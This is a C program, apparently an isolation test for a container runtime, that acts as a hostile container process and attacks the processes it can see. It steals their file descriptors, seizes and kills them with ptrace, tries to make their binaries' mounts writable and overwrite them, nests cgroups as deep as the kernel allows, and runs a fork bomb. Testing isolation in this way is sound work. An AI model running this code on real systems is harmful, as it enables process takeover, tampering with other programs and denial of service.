// SPDX-License-Identifier: Apache-2.0
//
// What a hostile process of a container tries on the others that it sees, again and again, until
// there is a file /tmp/stop: its words are on whom.
//
//   attacker trace      seizes each process, and takes its descriptors
//   attacker binary     writes to the programs of others, on which mount ever they are
//   attacker nest       makes control groups below its own, as deep and as fast as it can
//   attacker fork       makes processes as fast as it can
//
// A line for each success that no container may have, and at the end how many were tried.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned long tried;

// Whether the program of a process is one of the container's own: then it may be had.
static int is_own(const char *exe) {
  return strstr(exe, "busybox") || strstr(exe, "/attacker") || strstr(exe, "/probe");
}

static void trace(int pid) {
  char path[64], exe[256] = "";
  int process = (int)syscall(SYS_pidfd_open, pid, 0);
  if (process < 0) return;
  tried++;
  for (int number = 3; number < 24; number++) {
    int stolen = (int)syscall(SYS_pidfd_getfd, process, number, 0);
    if (stolen < 0) continue;
    printf("took descriptor %d\n", number);
    close(stolen);
  }
  close(process);
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  if (readlink(path, exe, sizeof exe - 1) > 0 && !is_own(exe)) printf("seized %s\n", exe);
  // Who is seized lets go of the other only once that is stopped: it ends with us.
  kill(pid, SIGKILL);
  waitpid(pid, 0, __WALL);
}

static void binary(int pid) {
  char path[64], exe[256] = "";
  struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  if (readlink(path, exe, sizeof exe - 1) > 0 && is_own(exe)) return;
  int held = open(path, O_PATH | O_CLOEXEC);
  if (held < 0) return;
  tried++;
  if (syscall(SYS_mount_setattr, held, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
    printf("made the mount of %s writable\n", exe);
  int copy = (int)syscall(SYS_open_tree, held, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
  if (copy >= 0) {
    printf("copied the mount of %s\n", exe);
    if (syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
      printf("made a copy of it writable\n");
    close(copy);
  }
  // Once nobody executes it any more ETXTBSY is no shield.
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  for (int i = 0; i < 2000; i++) {
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file < 0 && errno == ETXTBSY) continue;
    if (file < 0) break;
    printf("opened %s for writing\n", exe);
    if (write(file, "#!", 2) == 2) printf("wrote to it\n");
    close(file);
    break;
  }
  close(held);
}

static int each_process(void (*attack)(int)) {
  DIR *list = opendir("/proc");
  struct dirent *entry;
  if (!list) return -1;
  while ((entry = readdir(list))) {
    int pid = atoi(entry->d_name);
    if (pid > 1 && pid != getpid()) attack(pid);
  }
  return closedir(list);
}

static int nest(void) {
  if (chdir("/sys/fs/cgroup") < 0) return -1;
  // A name that is no UTF-8, and as deep as the kernel lets us.
  while (access("/tmp/stop", F_OK) != 0) {
    if (mkdir("\xff\xfe\n", 0755) < 0 || chdir("\xff\xfe\n") < 0) {
      printf("no deeper than %lu: %s\n", tried, strerror(errno));
      return chdir("/sys/fs/cgroup");
    }
    tried++;
  }
  return 0;
}

int main(int count, char **words) {
  const char *way = count == 2 ? words[1] : "";
  int result = 0;
  setvbuf(stdout, 0, _IOLBF, 0);
  signal(SIGCHLD, SIG_DFL);
  printf("ready\n");
  if (!strcmp(way, "nest")) result = nest();
  if (!strcmp(way, "fork")) {
    signal(SIGCHLD, SIG_IGN);
    for (;;)
      if (fork() > 0) tried++;
  }
  while (access("/tmp/stop", F_OK) != 0 && result == 0) {
    if (!strcmp(way, "trace")) result = each_process(trace);
    if (!strcmp(way, "binary")) result = each_process(binary);
    if (!strcmp(way, "nest")) usleep(10000);
  }
  if (result < 0) perror(way);
  printf("tried %lu\n", tried);
  return result < 0;
}
